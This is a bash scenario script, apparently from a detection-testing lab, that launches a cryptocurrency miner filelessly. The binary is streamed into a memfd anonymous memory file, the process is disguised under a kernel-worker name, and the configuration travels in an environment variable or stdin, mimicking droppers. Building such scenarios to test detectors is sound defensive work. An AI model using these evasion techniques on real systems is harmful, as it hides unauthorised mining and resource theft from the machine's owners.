#!/usr/bin/env bash
# fileless.sh — the fileless scenario: the miner image is streamed into an
# anonymous memory file (memfd_create) by minerlab-memexec and executed from
# there (/proc/PID/exe is "/memfd:... (deleted)"); its configuration travels
# in an environment variable (ML_CONFIG=env, the default) or on standard input
# (ML_CONFIG=stdin).  Nothing is written to the sandbox or anywhere else.
set -euo pipefail
# shellcheck source-path=SCRIPTDIR source=minerlib.sh
. "$(dirname "${BASH_SOURCE[0]}")/minerlib.sh"

ml_check() {
    ml_check_miner
    ml_helper minerlab-memexec >/dev/null ||
        ml_skip "minerlab-memexec helper not built (harness/launch)"
    # Kernels older than 3.17 or seccomp'd containers lack memfd_create.
    "$(ml_helper minerlab-memexec)" /bin/true -- true 2>/dev/null ||
        ml_skip "memfd_create/fexecve not permitted on this machine"
}

ml_start() {
    local src memexec name
    ml_need_env ML_SANDBOX ML_POOL_URL ML_DURATION
    src=$(ml_find_miner)
    memexec=$(ml_helper minerlab-memexec)
    name=${ML_NAME:-[kworker/u4:1-events_unbound]}
    cd "$ML_SANDBOX"
    ml_clean_env
    ml_lab_flags
    case "${ML_CONFIG:-env}" in
    stdin)
        # The image from its path (an already-downloaded payload), the
        # config piped in the way `curl ... | sh` droppers pass it.
        ml_miner_config_json "" |
            "${ML_CLEAN[@]}" "$memexec" -n "" "$src" -- "$name" -c - --name "$name" \
            "${ML_LAB_FLAGS[@]}" >&2 &
        ;;
    args)
        ml_miner_args "$name"
        "${ML_CLEAN[@]}" "$memexec" -n "" - -- "$name" "${ML_ARGS[@]}" <"$src" >&2 &
        ;;
    *)
        # Default: image piped through stdin, config in the environment.
        # shellcheck disable=SC2002  # the pipe is the point: no path to the image
        cat "$src" | "${ML_CLEAN[@]}" APP_CONFIG="$(ml_miner_config_json "")" \
            "$memexec" -n "" - -- "$name" --config-env APP_CONFIG --name "$name" \
            "${ML_LAB_FLAGS[@]}" >&2 &
        ;;
    esac
    ML_MINER_PID=$!
    ML_CHILD_PIDS+=("$ML_MINER_PID")
    ml_announce "$ML_MINER_PID" miner
    ml_run_window "$ML_MINER_PID" miner
}

ml_main "$@"
